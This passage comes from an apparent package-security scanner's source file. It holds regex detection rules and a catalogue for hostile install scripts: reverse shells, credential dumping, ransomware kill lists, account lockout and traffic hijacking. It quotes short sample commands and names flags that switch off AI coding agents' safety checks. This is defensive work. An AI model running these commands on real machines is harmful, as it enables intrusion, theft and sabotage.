                                  # PowerShell's: a TCP client whose stream's bytes are run (`iex $d`) and the output written back
                                  r"|Net\.Sockets\.TCPClient\b.{0,600}\b(iex|Invoke-Expression)\b"
                                  # Ruby's: each line read from a TCP socket run (`c=TCPSocket.new(h,p);while(l=c.gets);Open3.capture2e(l)`)
                                  r"|\bTCPSocket\.(new|open)\b.{0,400}?\b(Open3\.(capture|popen)\w*|IO\.popen|system|exec|spawn)\s*\(?\s*\w+\s*\)?\s*[;)\n]"
                                  # Python's: a socket's descriptor made the shell's stdio (`os.dup2(s.fileno(), 0)`)
                                  r"|\bdup2\(\s*[\w.]+\.fileno\(\)(.|\n){0,300}?\b(pty\.spawn|subprocess\.(call|Popen|run)|os\.exec\w*)\(",
                                  ignore_case=True)
ADMIN_PORTS = r"(22|135|139|445|3389|5900|5985|5986)"
PORT_RELAY = linear_re.compile(r"\bportproxy\s+add\s+v4tov[46]\b[^|;&\n]*?listenaddress=0\.0\.0\.0[^|;&\n]*?connectport=" + ADMIN_PORTS + r"\b|"
                               r"\bportproxy\s+add\s+v4tov[46]\b[^|;&\n]*?connectport=" + ADMIN_PORTS + r"\b[^|;&\n]*?listenaddress=0\.0\.0\.0|"
                               r"\bsocat\b[^|;&\n]*?TCP[46]?-LISTEN:\d+[^|;&\n]*?\sTCP[46]?:(127\.0\.0\.1|localhost):" + ADMIN_PORTS + r"\b",
                               ignore_case=True)
"""A port of every interface relayed to this machine's SSH, RPC, SMB, RDP, VNC or WinRM (`netsh interface portproxy add
v4tov4 listenaddress=0.0.0.0 … connectport=3389`, `socat TCP-LISTEN:50022,fork TCP:127.0.0.1:22`). A WSL bridge relays a
dev server's port, from 127.0.0.1."""
# What launches a file: an interpreter, a Windows launcher, their flags. Stripped to find the file.
LAUNCHER = re.compile(r"^(?:start(?:\s+/\w+|\s+\"\")*|cmd(?:\.exe)?\s+/[ck]|call|nohup|node|sh|bash|zsh|cscript|wscript|python[23]?|perl|ruby|"
                      r"powershell(?:\.exe)?|pwsh|-ExecutionPolicy\s+\w+|-WindowStyle\s+\w+|--?[\w-]+|//\w+(?::\w+)?)\s+", re.I)
# (Windows Script Host's own flags are `//nologo`, `//B`, `//E:jscript`; a .wsf holds its scripts in XML)
RUNS_FILE = re.compile(r"^['\"]?(?P<file>[\w./@\\-]+\.(?:c?js|mjs|sh|bash|bat|cmd|ps1|vbs|wsf|py|pl|rb))\b")
SEPARATORS = re.compile(r"\s*(?:&&|\|\||;|&|\||\(|\))\s*")
"""Between commands: shell operators, and a batch block's parentheses (`if exist x.cmd (call x.cmd) else (exit 0)`)."""
GYP_EXPANSION = "<!"
# `node -p "require('node-addon-api').include"`, `node -e "require('nan')"`: a build helper's header
# or library path, the standard idiom of node-addon-api and nan in binding.gyp. Code that only
# requires a module and reads properties of it; anything else (a call, a statement) is inline code.
REQUIRE_ONLY = re.compile(r"""^node\s+(?:-p|-e|--print|--eval)\s+(["'])\s*require\((["'])[@\w./-]+\2\)(?:\.[\w$]+)*\s*;?\s*\1$""")


CARVED = linear_re.compile(r"\b(tail|head|dd|cut|xxd|od)\b[^|;&]*\s[\w./-]*\.(bin|dat|xz|lzma|gz|png|jpe?g|gif|bmp|ico|wasm|woff2?|ttf)\b"
                          r"[^;&]*\|\s*((ba|da|z)?sh|eval)\b", ignore_case=True)
"""A script cut out of a data file of the package (a test fixture, an image, a font) by offset and run by a shell:
the xz-utils backdoor's `tail -c +N test-file | tr … | sh`."""
SESSION_HIJACK = linear_re.compile(r"\b(sc(\.exe)?['\"]?\s+create\b|schtasks(\.exe)?\b[^\n]*/ru\s+['\"]?SYSTEM\b|New-Service\b)"
                                   r"[^\n]*\btscon(\.exe)?['\"]?\s+\S+\s+/dest:|"
                                   r"Terminal Services['\"]?[^|;&\n]*\bShadow\b['\"]?[^|;&\n]*/d['\"]?\s+['\"]?[24]\b",
                                   ignore_case=True)
"""Another user's Remote Desktop session taken over: `tscon <id> /dest:<console or rdp-tcp#n>` run as SYSTEM from a
service or a scheduled task, where it needs no password (a UI-test runner moving its own session to the console runs
it as the user), or the remote-control policy set to take over or watch sessions without the user's
consent (Shadow 2 or 4)."""
ACCOUNT_LOCKOUT = linear_re.compile(r"\bnet(\.exe)?\s+user\s+(\"?(%%?~?\w+%?|\$\{\*\}|!\w+!)\"?|\S+)\s+/active:no\b|"
                                    r"\bnet(\.exe)?\s+user\s+\"?(%%~?\w|!\w+!)\"?\s+\"?(%%?\w+%?|!\w+!|[^\s/\"*]{6,})\"?|"
                                    r"\busermod\s+(-\w+\s+)*-L\b|\bpasswd\s+-l\b|\bchage\s+(-\w+\s+)*-E\s*0\b|"
                                    r"\b(Disable-LocalUser|Disable-ADAccount)\b|\bSet-(LocalUser|ADAccountPassword)\b[^|;&\n]*-(Password|NewPassword)\b|"
                                    r"\bdscl\s+\.\s+-passwd\b",
                                    ignore_case=True)
"""Accounts of the machine locked, disabled or given a password only the script knows (MITRE T1531, what wipers and
ransomware run before the damage so nobody can log in to stop it): `net user <account> <password>` for each account a
batch loop lists, `/active:no`, `usermod -L`, `passwd -l`, `chage -E 0`, Disable-LocalUser. A password rotation tool does
it for the one account its user names, from its command line, never at install."""
SHUTDOWN = linear_re.compile(r"\bshutdown(\.exe)?\s+(-\w+\s+)*(/[srpf]\b|-[hrP]\b|now\b)|\bsystemctl\s+(-\w+\s+)*(poweroff|reboot|halt)\b|"
                             r"^\s*(sudo\s+)?(poweroff|halt|reboot)(\s+-\w+)*\s*$|\b(Stop|Restart)-Computer\b|"
                             r"\bto\s+(shut\s+down|restart)\b",
                             ignore_case=True)
"""The machine shut down or restarted (MITRE T1529): `shutdown /s /f /t 0`, `shutdown -h now`, `systemctl poweroff`,
Stop-Computer, AppleScript's `tell app "System Events" to shut down`. What a sabotaged package does to the build host
or the developer's machine; an installer asks the user to restart, it never does it."""
KILL_LIST = (r"(Veeam[\w.]*|BackupExec\w*|Backup\s?Exec\w*|Acronis\w*|VSS|wbengine|SQLWriter|WinDefend|MsMpSvc|Sophos[\w ]*|"
             r"SAVService|SepMasterService|CylanceSvc|bacula-fd|rsnapshot)\b")
SERVICE_KILL = linear_re.compile(r"\btaskkill(\.exe)?\s+[^|;&\n]*/IM\s+\"?(sqlservr|sqlagent|sqlwriter|mysqld|oracle|ocssd|dbsnmp|"
                                 r"msexchange\w*|Veeam[\w.]*|wbengine|vssvc)(\.exe)?\b|"
                                 r"\b(net(\.exe)?\s+stop|sc(\.exe)?\s+(stop|config)|Stop-Service(\s+-Name)?|systemctl\s+(stop|disable))\s+\"?"
                                 + KILL_LIST,
                                 ignore_case=True)
"""Ransomware's kill list (MITRE T1489): the databases killed so their files can be encrypted (`taskkill /F /IM
sqlservr.exe`), the backup and security services stopped (Veeam, Backup Exec, Acronis, the shadow copy service,
Windows Backup, Defender, Sophos) so nothing restores or stops it. A database tool restarts its own server by service
name, never kills backups."""
PROTECTION_VALUES = re.compile(r"^(UseLogonCredential|LmCompatibilityLevel|NoLMHash|RunAsPPL|LsaCfgFlags|NtlmMinClientSec|"
                               r"NtlmMinServerSec|RestrictSendingNTLMTraffic|RestrictReceivingNTLMTraffic|DisableRestrictedAdmin)$", re.I)
"""The LSA and NTLM settings that keep credentials out of reach: WDigest's cleartext cache, the LM hash and LM/NTLMv1
responses, LSASS as a protected process, Credential Guard, NTLM restrictions."""
CREDENTIAL_DOWNGRADE = linear_re.compile(r"\bUseLogonCredential\b[^|;&\n]*(/d\s+1\b|-Value\s+1\b)|"
                                         r"\bLmCompatibilityLevel\b[^|;&\n]*(/d\s+[0-2]\b|-Value\s+[0-2]\b)|"
                                         r"\b(NoLMHash|RunAsPPL|LsaCfgFlags)\b[^|;&\n]*(/d\s+0\b|-Value\s+0\b)",
                                         ignore_case=True)
"""Windows made to keep or send credentials in a form that can be taken (MITRE T1112/T1556): WDigest's cleartext
passwords in LSASS (UseLogonCredential 1), LM and NTLMv1 responses and the LM hash (LmCompatibilityLevel 0-2, NoLMHash
0), LSASS unprotected (RunAsPPL 0), Credential Guard off (LsaCfgFlags 0): what credential thieves set before they dump
or relay."""
S, C = Severity, Confidence
COMMAND_RULES = (
    # (rule, pattern, group of the match to quote, severity, confidence, category, message)
    ("encoded-command", ENCODED, 0, S.HIGH, C.HIGH, "obfuscation", "The {where} decodes and runs encoded data, hiding what it does."),
    ("reads-secrets", SECRETS, 0, S.HIGH, C.HIGH, "secret-access", "The {where} reads credentials or dumps the environment."),
    ("decrypt-and-run", DECRYPT_RUN, 0, S.CRITICAL, C.HIGH, "obfuscation",
     "The {where} decrypts a script and runs it with a shell ({match}): code kept from every reader of the package, "
     "as Shlayer's installers did."),
    ("carved-code", CARVED, 0, S.CRITICAL, C.HIGH, "dropper",
     "The {where} cuts a script out of a data file of the package and runs it with a shell ({match}), as the "
     "xz-utils backdoor (2024) hid its stage in test files."),
    ("wiper", WIPE, 0, S.CRITICAL, C.HIGH, "destructive",
     "The {where} deletes the home directory, the filesystem root or a whole drive ({match})."),
    ("ai-agent", AI_AGENT_UNLEASHED, 0, S.CRITICAL, C.HIGH, "exfiltration",
     "The {where} runs an AI coding agent with its safety checks off ({match}), as the s1ngularity/nx and Amazon Q "
     "attacks did to search the machine for secrets or wipe it."),
    ("reverse-shell", REVERSE_SHELL, 0, S.CRITICAL, C.HIGH, "backdoor",
     "The {where} connects an interactive shell to a remote host ({match}): a reverse shell."),
    ("port-relay", PORT_RELAY, 0, S.HIGH, C.HIGH, "backdoor",
     "The {where} exposes a remote-admin service of this machine on every interface ({match}): a relay into it."),
    ("remote-script", SCRIPT_HOST, 0, S.CRITICAL, C.HIGH, "dropper",
     "The {where} has a script host (a Windows one, an app installer, or Node given a module URL) run code straight "
     "from the network ({match})."),
    ("registry-code", REGISTRY_CODE, 0, S.CRITICAL, C.HIGH, "dropper",
     "The {where} runs PowerShell code kept in a registry value ({match}): a payload stored where no file scanner "
     "looks (fileless)."),
    ("kernel-driver", KERNEL_DRIVER, 0, S.CRITICAL, C.HIGH, "rootkit",
     "The {where} loads a kernel module or driver, or turns driver signature checks off ({match}): code that runs in the "
     "kernel, below every defence of the host."),
    ("session-hijack", SESSION_HIJACK, 0, S.CRITICAL, C.HIGH, "backdoor",
     "The {where} takes over another user's Remote Desktop session, or lets sessions be controlled without the user's "
     "consent ({match})."),
    ("defence-off", DEFENCE_OFF, 0, S.CRITICAL, C.HIGH, "defence-evasion",
     "The {where} turns off or blinds the host's defences or removes its way to recover ({match}), as droppers do before "
     "they start a RAT and ransomware before it encrypts."),
    ("privilege", PRIVILEGE, 0, S.CRITICAL, C.HIGH, "privilege-escalation",
     "The {where} gives itself root ({match}): a sudoers rule, a privileged container with the host's root mounted, a setuid bit."),
    ("credential-dump", CREDENTIAL_DUMP, 0, S.CRITICAL, C.HIGH, "credential-theft",
     "The {where} dumps the system's credential stores ({match}): LSASS memory, the SAM hive or the AD database hold every password hash of the machine."),
    ("disguised-dll", DISGUISED_DLL, 0, S.CRITICAL, C.HIGH, "dropper",
     "The {where} runs a library disguised as a data file with rundll32 ({match}): a payload kept where a reader takes it "
     "for data."),
    ("update-client-dll", UPDATE_CLIENT_DLL, 0, S.CRITICAL, C.HIGH, "dropper",
     "The {where} makes the Windows Update client load a DLL ({match}): a signed system program as the payload's host."),
    ("tls-downgrade", TLS_DOWNGRADE, 0, S.HIGH, C.HIGH, "persistence",
     "The {where} turns off certificate checks in the user's own tool settings ({match}): later downloads can be swapped."),
    ("mailbox-grant", MAILBOX_GRANT, 0, S.CRITICAL, C.HIGH, "backdoor",
     "The {where} grants rights over the organisation's mailboxes ({match}): a delegate that reads and sends as them."),
    ("rdp-trust", RDP_TRUST, 0, S.HIGH, C.HIGH, "persistence",
     "The {where} turns off Remote Desktop's warnings for a server ({match}): a connection file that hands the user's "
     "drives and devices to that server opens without asking."),
    ("port-monitor", PORT_MONITOR, 0, S.CRITICAL, C.HIGH, "persistence",
     "The {where} registers a print spooler port monitor ({match}): a DLL the spooler loads as SYSTEM at every boot."),
    ("dll-injection", DLL_INJECTION, 0, S.CRITICAL, C.HIGH, "dropper",
     "The {where} injects a DLL into a running process with mavinject ({match}): another program made the payload's host."),
    ("dll-run", DLL_RUN, 0, S.HIGH, C.HIGH, "dropper",
     "The {where} runs code from a DLL with rundll32 or as a Control Panel item ({match}), as droppers start a bundled or "
     "downloaded payload."),
    ("library-injection", LIBRARY_INJECTION, 0, S.CRITICAL, C.HIGH, "persistence",
     "The {where} makes other programs load a library it chose ({match}): the dynamic linker's preload list, an app's "
     "launch environment, LSA's packages or the login window's authorization plugins, each loaded at every start."),
    ("account-lockout", ACCOUNT_LOCKOUT, 0, S.CRITICAL, C.HIGH, "destructive",
     "The {where} locks, disables or re-passwords the machine's accounts ({match}): its users shut out, as wipers and "
     "ransomware do before the damage."),
    ("service-kill", SERVICE_KILL, 0, S.CRITICAL, C.HIGH, "destructive",
     "The {where} stops the machine's databases, backup or security services ({match}), as ransomware does before it "
     "encrypts."),
    ("credential-downgrade", CREDENTIAL_DOWNGRADE, 0, S.CRITICAL, C.HIGH, "credential-theft",
     "The {where} weakens how Windows protects credentials ({match}): cleartext passwords kept in LSASS, LM or NTLMv1 "
     "accepted, LSASS or Credential Guard unprotected, as credential thieves do before they dump or relay."),
    ("system-shutdown", SHUTDOWN, 0, S.CRITICAL, C.HIGH, "destructive",
     "The {where} shuts the machine down or restarts it ({match})."),
    ("ci-runner", CI_RUNNER, 0, S.CRITICAL, C.HIGH, "remote-access",
     "The {where} registers this machine as a self-hosted CI runner ({match}): whoever can push to that repository "
     "runs commands here (Shai-Hulud 2.0's SHA1HULUD runner, 2025)."),
    ("scheduled-task", SCHEDULED, 0, S.HIGH, C.HIGH, "persistence",
     "The {where} registers something to run again at logon, on a timer or on another program's event ({match}): "
     "persistence."),
    ("dns-tamper", DNS_TAMPER, 0, S.CRITICAL, C.HIGH, "traffic-hijack",
     "The {where} replaces the machine's DNS servers ({match}): every lookup then goes to a resolver it chose."),
    ("proxy-tamper", PROXY_TAMPER, 0, S.CRITICAL, C.HIGH, "traffic-hijack",
     "The {where} replaces the machine's proxy settings ({match}): the web traffic of every browser and app then goes "
     "through a proxy it chose."),
    ("config-profile", CONFIG_PROFILE, 0, S.CRITICAL, C.HIGH, "traffic-hijack",
     "The {where} installs a macOS configuration profile ({match}): DNS, proxies, trusted certificates and browser "
     "policies of the whole account, set where no package manager's user looks."),
    ("path-hijack", PATH_PERSIST, 0, S.HIGH, C.MEDIUM, "persistence",
     "The {where} rewrites the PATH of every later session ({match}): a program typed by name is looked up first "
     "where the script chose."),
    ("global-install", GLOBAL_INSTALL, 0, S.HIGH, C.MEDIUM, "supply-chain",
     "The {where} installs a package globally ({match}): code the user did not ask for, on their PATH."),
    ("crypto-miner", MINER, 0, S.CRITICAL, C.HIGH, "cryptominer",
     "The {where} starts a cryptocurrency miner ({match}) on the user's machine."),
    ("host-recon", RECON, 0, S.MEDIUM, C.MEDIUM, "recon", "The {where} collects the user or host name, as install-time beacons do."),
    ("network-tool", NETWORK_TOOL, 1, S.HIGH, C.MEDIUM, "exfiltration", "The {where} runs a network tool ({match})."),
    ("raw-ip", RAW_IP_URL, 0, S.HIGH, C.MEDIUM, "exfiltration", "The {where} contacts a raw IP address ({match})."),
)
"""Patterns that each make one finding, in the order they are reported."""


@dataclass(frozen=True)
class HookRule:
    """An install-script rule, for the catalogue."""

    id: str
    """Reported as `install-script/<id>` (and as `code/<id>` for commands that code runs)."""
    title: str
    description: str
    severity: Severity
    """The strongest severity it reports."""
    category: str
    weighs: bool = True
    """False for the informational rules, which commands run from code do not report."""


HOOK_RULES = (
    HookRule("fetch-and-execute", "Downloads code and pipes it to an interpreter",
             "curl/wget/Invoke-WebRequest/certutil piped into sh, bash, node, python or iex; a runner handed a script's "
             "URL (uv run, pipx run, deno run https://…).", S.CRITICAL, "dropper"),
    HookRule("downloads", "Downloads at install time", "A downloader with a URL in an install hook.", S.HIGH, "dropper"),
    HookRule("inline-code", "Runs inline code", "node -e / python -c / perl -e instead of a file in the package; high "
             "when the code uses child_process, the network, process.env or eval.", S.HIGH, "install-script"),
    HookRule("encoded-command", "Runs encoded data", "base64 -d, PowerShell -EncodedCommand, FromBase64String, atob.",
             S.HIGH, "obfuscation"),
    HookRule("decrypt-and-run", "Decrypts a script and runs it",
             "openssl enc -d (with the key on its command line) or openssl base64 -d piped into sh.", S.CRITICAL, "obfuscation"),
    HookRule("carved-code", "Runs a script cut out of a data file",
             "tail/head/dd/cut of a .bin/.xz/image/font file of the package piped into sh (the xz-utils backdoor's shape).",
             S.CRITICAL, "dropper"),
    HookRule("reads-secrets", "Reads credentials or dumps the environment",
             ".npmrc, _authToken, NPM_TOKEN/GITHUB_TOKEN/AWS keys, ~/.ssh, printenv, env piped on.", S.HIGH, "secret-access"),
    HookRule("wiper", "Deletes the home, the root or a drive", r"rm -rf / ~ $HOME, rd /s /q C:\, del C:\*, format, shred -u.",
             S.CRITICAL, "destructive"),
    HookRule("ai-agent", "Runs an AI coding agent with its safety off",
             "--dangerously-skip-permissions, --yolo, --trust-all-tools and the like (s1ngularity/nx, Amazon Q).",
             S.CRITICAL, "exfiltration"),
    HookRule("reverse-shell", "Connects a shell to a remote host", "/dev/tcp, gawk's /inet/tcp, bash -i, nc -e, mkfifo … | sh, socat exec:, "
             "PowerShell's TCPClient whose stream is run with Invoke-Expression, Ruby's TCPSocket whose lines are run, Python's socket dup2'd onto stdio "
             "before pty.spawn (also in the base64 inline code decodes).",
             S.CRITICAL, "backdoor"),
    HookRule("port-relay", "Exposes a remote-admin service on every interface",
             "netsh interface portproxy from 0.0.0.0 to a local SSH, RDP, SMB or WinRM port, or socat listening on a port "
             "and relaying to one (Volt Typhoon's pivots): a way into the machine for anyone who can reach it.",
             S.HIGH, "backdoor"),
    HookRule("remote-script", "Runs a script straight from the network (Windows)",
             "mshta with a URL or script: URI, regsvr32 /i:http (scriptlets), rundll32 javascript:, cscript/wscript "
             "with a URL, msiexec /i with a URL, an app package from the network (Add-AppxPackage with a URL or an .appinstaller "
             "file, the ms-appinstaller: URI): the script host or installer fetches and runs remote code.", S.CRITICAL, "dropper"),
    HookRule("registry-code", "Runs code kept in the registry",
             "PowerShell that reads a registry value (Get-ItemProperty, gp HKCU:, Registry::) and runs it with "
             "Invoke-Expression: a payload stored in the registry, loaded by a Run key or a task (fileless storage).",
             S.CRITICAL, "dropper"),
    HookRule("kernel-driver", "Loads a kernel module or driver",
             "insmod, sc create … type= kernel, New-Service with a .sys, NtLoadDriver, kextload, fltmc load, bcdedit /set testsigning on: "
             "rootkits (Diamorphine, Skidmap) and EDR killers that bring a vulnerable driver (Terminator).", S.CRITICAL, "rootkit"),
    HookRule("session-hijack", "Takes over Remote Desktop sessions",
             "tscon <session> /dest: from a service or a SYSTEM scheduled task (a disconnected session taken over, no password "
             "asked), or the Terminal Services Shadow policy set to control or view sessions without consent.", S.CRITICAL, "backdoor"),
    HookRule("defence-off", "Turns off the host's defences",
             "Windows Defender exclusions or real-time protection off (Add-MpPreference -Exclusion*, Set-MpPreference "
             "-Disable*), the fodhelper/eventvwr UAC bypass, the firewall, Gatekeeper, Mark of the Web or SELinux turned off, "
             "AMSI or ETW patched out of memory (noblox.js "
             "look-alikes delivering Quasar RAT); the system's recovery removed (vssadmin delete shadows, wbadmin delete, "
             "bcdedit recoveryenabled no, Disable-ComputerRestore, tmutil deletelocalsnapshots), as ransomware does first; Go's "
             "checksum database turned off for every later build (`go env -w GOSUMDB=off`).",
             S.CRITICAL, "defence-evasion"),
    HookRule("privilege", "Gives itself root", "Writes a sudoers rule (NOPASSWD), runs a privileged container with the "
             "host's / mounted, sets a setuid bit or file capabilities.", S.CRITICAL, "privilege-escalation"),
    HookRule("library-injection", "Makes other programs load its library",
             "/etc/ld.so.preload written, DYLD_INSERT_LIBRARIES put in an app's LSEnvironment or the session's launchd "
             "environment, a DLL added to LSA's notification, authentication or security packages (a password filter, an "
             "SSP), a macOS authorization plugin installed or the authorization database rewritten, a netsh helper added.",
             S.CRITICAL, "persistence"),
    HookRule("account-lockout", "Locks the machine's users out of their accounts",
             "net user <account> <password> for each account a batch loop lists, net user <account> /active:no, usermod -L, passwd -l, "
             "chage -E 0, Disable-LocalUser, Set-LocalUser -Password, dscl . -passwd: the accounts locked or given a password "
             "only the script knows (MITRE T1531), as wipers and ransomware do so nobody logs in to stop them.",
             S.CRITICAL, "destructive"),
    HookRule("service-kill", "Stops databases, backups and security services",
             "taskkill /F /IM sqlservr.exe (or mysqld, Oracle, Exchange, Veeam), net stop / sc stop / Stop-Service / systemctl "
             "stop of Veeam, Backup Exec, Acronis, VSS, wbengine, Defender or Sophos: ransomware's kill list (MITRE T1489), run "
             "so the files can be encrypted and nothing restores them.", S.CRITICAL, "destructive"),
    HookRule("credential-downgrade", "Weakens Windows' credential protection",
             "UseLogonCredential 1 (WDigest's cleartext passwords), LmCompatibilityLevel 0-2 or NoLMHash 0 (LM and NTLMv1), "
             "RunAsPPL 0 or LsaCfgFlags 0 (LSASS and Credential Guard unprotected), written with reg add or Set-ItemProperty; "
             "from code, a registry write in a file that names these values.", S.CRITICAL, "credential-theft"),
    HookRule("system-shutdown", "Shuts the machine down",
             "shutdown /s, shutdown -h now, systemctl poweroff or reboot, Stop-Computer, Restart-Computer, AppleScript's "
             "`to shut down` (MITRE T1529): sabotage of the build host or the developer's machine.", S.CRITICAL, "destructive"),
    HookRule("credential-dump", "Dumps the system's credential stores",
             "LSASS memory dumped (rundll32 comsvcs.dll MiniDump, procdump -ma lsass, mimikatz sekurlsa), the SAM, SYSTEM "
             "or SECURITY hive saved (reg save HKLM\\SAM), ntdsutil ifm, unshadow: what credential stealers of Windows and "
             "Linux hosts run.", S.CRITICAL, "credential-theft"),
    HookRule("disguised-dll", "Runs a library disguised as a data file",
             "rundll32 <file>,<export> on a file whose name says it is not a library (`Demo.vcxproj.dat`): the payload "
             "of the Visual Studio project Lazarus sent security researchers (2021), run by the project's pre-build "
             "event.", S.CRITICAL, "dropper"),
    HookRule("update-client-dll", "Makes the Windows Update client load a DLL",
             "wuauclt /UpdateDeploymentProvider <dll> (Lazarus, 2022): a signed system program as the payload's host.",
             S.CRITICAL, "dropper"),
    HookRule("dll-injection", "Injects a DLL into a running process",
             "mavinject <pid> /INJECTRUNNING <dll>: Microsoft's App-V injector loading a payload into Explorer or a browser.",
             S.CRITICAL, "dropper"),
    HookRule("tls-downgrade", "Turns off certificate checks in the user's tool settings",
             "npm/yarn/pnpm `config set strict-ssl false`, `git config --global http.sslVerify false`, pip's global "
             "trusted-host, `insecure` appended to ~/.curlrc, NODE_TLS_REJECT_UNAUTHORIZED=0 or GIT_SSL_NO_VERIFY written "
             "into a shell profile: every later download of the user's can be swapped on the way.", S.HIGH, "persistence"),
    HookRule("mailbox-grant", "Grants rights over the organisation's mailboxes",
             "Exchange's Add-MailboxPermission/Add-RecipientPermission (full access, send-as), folder permissions, "
             "ApplicationImpersonation or GrantSendOnBehalfTo given to a delegate: a backdoor into everyone's mail.",
             S.CRITICAL, "backdoor"),
    HookRule("rdp-trust", "Turns off Remote Desktop's warnings for a server",
             "A server written under HKCU\\Software\\Microsoft\\Terminal Server Client\\LocalDevices (the user's drives and "
             "devices redirected to it without a prompt) or AuthenticationLevelOverride set: a rogue .rdp file opens "
             "silently (Midnight Blizzard, 2024).", S.HIGH, "persistence"),
    HookRule("port-monitor", "Registers a print spooler port monitor",
             "A key under HKLM\\SYSTEM\\CurrentControlSet\\Control\\Print\\Monitors: its DLL is loaded by the spooler as "
             "SYSTEM at every boot (MITRE T1547.010).", S.CRITICAL, "persistence"),
    HookRule("dll-run", "Runs a DLL's export with rundll32",
             "rundll32 <dll>,<export> on a DLL that is not one of Windows' own (eslint-config-prettier 8.10.1/9.1.1, "
             "2025: node-gyp.dll started at install), or a Control Panel item (a DLL) started from a path with control.exe "
             "or Control_RunDLL.", S.HIGH, "dropper"),
    HookRule("ci-runner", "Registers the machine as a self-hosted CI runner",
             "The GitHub Actions runner configured unattended with a repository URL and a registration token (`config.sh "
             "--url … --token … --unattended`) or a GitLab runner registered with a token: the repository's workflows then "
             "run on this machine.", S.CRITICAL, "remote-access"),
    HookRule("scheduled-task", "Registers a scheduled task, agent or Run key",
             "schtasks /create, Register-ScheduledTask, launchctl load/bootstrap, brew services start, systemctl --user enable, "
             "reg add …\\Run, "
             "a crontab installed from a pipe, an @reboot line or a file in /etc/cron.d, a container run with "
             "--restart=always, a BITS notify command, the CLR profiler variables, AppInit_DLLs, a file in APT's, "
             "NetworkManager's or update-motd's hook directories: "
             "something runs again at logon, on a timer or on another program's event.", S.HIGH, "persistence"),
    HookRule("clipboard-hijack", "Swaps crypto addresses in the clipboard",
             "A script run at install that reads the clipboard (pbpaste, xclip -o, wl-paste, Get-Clipboard), matches "
             "crypto addresses and writes the clipboard (pbcopy, xclip, wl-copy, Set-Clipboard).", S.CRITICAL, "browser"),
    HookRule("dns-tamper", "Replaces the machine's DNS servers",
             "networksetup -setdnsservers, a write to /etc/resolv.conf, Set-DnsClientServerAddress, netsh … set dns, "
             "resolvectl dns, nmcli ipv4.dns: every lookup of the machine goes to a resolver the script chose.",
             S.CRITICAL, "traffic-hijack"),
    HookRule("proxy-tamper", "Replaces the machine's proxy settings",
             "networksetup -setwebproxy/-setsecurewebproxy/-setautoproxyurl, gsettings set org.gnome.system.proxy, netsh "
             "winhttp set proxy, or Internet Settings' AutoConfigURL/ProxyServer written with reg add or Set-ItemProperty: "
             "every browser's web traffic goes through a proxy the script chose (Retefe).", S.CRITICAL, "traffic-hijack"),
    HookRule("config-profile", "Installs a macOS configuration profile",
             "profiles install / profiles -I -F, or open of a .mobileconfig or of System Settings' Profiles pane: DNS, proxy, "
             "root-certificate and browser "
             "policies for the whole account (search-hijacking adware).", S.CRITICAL, "traffic-hijack"),
    HookRule("path-hijack", "Rewrites the PATH of later sessions",
             "reg add HKCU\\Environment /v Path, setx PATH, [Environment]::SetEnvironmentVariable('Path', …, 'User'): "
             "a folder the script chose is searched for every program the user types (the 2025 gluestack "
             "packages put a fake Python first).", S.HIGH, "persistence"),
    HookRule("global-install", "Installs a package globally",
             "npm install -g / yarn global add / pnpm add -g from an install hook (cline 2.3.0 installing openclaw, 2026).",
             S.HIGH, "supply-chain"),
    HookRule("crypto-miner", "Starts a cryptocurrency miner",
             "A miner binary (xmrig, cpuminer, ...), a stratum+tcp pool URL, --donate-level, xmrig's own options, a "
             "mining algorithm flag, or a pool and wallet given together (`-o pool:port -u wallet`, POOL= and WALLET=) "
             "in a command (ua-parser-js 0.7.29, rspack 1.1.7).", S.CRITICAL, "cryptominer"),
    HookRule("host-recon", "Collects the user or host name", "$(whoami), $(hostname), %USERNAME%, $env:COMPUTERNAME.",
             S.MEDIUM, "recon"),
    HookRule("network-tool", "Runs a network tool", "nc, ncat, socat, telnet, nslookup, dig, host, ping with an argument.",
             S.HIGH, "exfiltration"),
    HookRule("raw-ip", "Contacts a raw IP address", "A URL whose host is an IP address.", S.HIGH, "exfiltration"),
    HookRule("tamper", "Writes to a file other programs trust or run",
             "A redirection, tee, Add-Content/Set-Content/Out-File or sed -i onto the hosts file, .npmrc/.yarnrc, a "
             "lockfile, shell start-up files, crontab, authorized_keys or CI workflows.", S.HIGH, "persistence"),
    HookRule("beacon", "Sends the user or host name to the network",
             "One command that collects the user or host name and reaches the network (shell, PowerShell, or inline "
             "Python's socket.gethostname()/getpass.getuser() with urlopen or requests): the dependency-confusion beacon.",
             S.CRITICAL, "recon"),
    HookRule("sends-secrets", "Sends the environment or a credential file to the network",
             "One command (or a script's variable) that dumps the environment or reads ~/.npmrc, SSH keys or cloud "
             "credentials, and a curl/wget body, upload or network tool that sends it.", S.CRITICAL, "exfiltration"),
    HookRule("download-execute", "Downloads a file and then runs it",
             "A shell or batch script that saves a download as X and later runs X.", S.CRITICAL, "dropper"),
    HookRule("npmrc-program", "Its .npmrc runs a file of the package in place of git or the shell",
             "The package's own .npmrc sets `git`, `script-shell` or `shell` to a file of the package, or `node-options` "
             "to `--require` one: npm runs it when the package is installed from git or worked on in its directory, "
             "even with --ignore-scripts (PackageGate, 2026). The file is analysed as install-time code.",
             S.HIGH, "install-script"),
    HookRule("runs-file", "Runs a file of the package", "The hook runs a script of the package, which is analysed as "
             "install-time code.", S.LOW, "install-script", weighs=False),
    HookRule("bin-path-traversal", "A bin link that leaves node_modules/.bin",
             "A `bin` name or target with `..` or an absolute path: at install the package manager links or "
             "overwrites a file outside the package (a git or husky hook, a shell profile; npm CVE-2019-16775/16776, "
             "yarn CVE-2019-10773).", S.CRITICAL, "install-script"),
    HookRule("recognised", "A common legitimate install script", "node-gyp, prebuild-install, husky, patch-package, ...",
             S.INFO, "install-script", weighs=False),
    HookRule("present", "Has an install script", "Any other lifecycle script.", S.LOW, "install-script", weighs=False),
)


def catalogue() -> list[RuleInfo]:
    """The install-script rules, for SARIF `rules[]` and docs/detection.md."""
    return [RuleInfo(f"install-script/{r.id}", r.title, r.description, r.severity.label, r.category) for r in HOOK_RULES]


@dataclass(frozen=True)
class _Script:
    hook: str
    command: str
    line: int | None
    implicit: bool = False
    file: str = "package.json"
    label: str = ""
    """How messages name the command's origin; by default from the hook and file."""


def analyze(context: AnalysisContext) -> Iterator[Finding]:
    """The install-script findings of a package (see `install_script_analyzer`, which registers the analyzer)."""
    # Findings depend on the package's content only (they are cached by it): reviewed and
    # allowed scripts are waived by the policy stage, on every run, not here.
    artifact = context.artifact
    seen: set[tuple] = set()
    for script in _lifecycle_scripts(artifact.manifest, artifact.files):
        for finding in _judge(script, artifact.files):
            # (a shell file that two hooks, or two binding.gyp expansions, run is judged once per line)
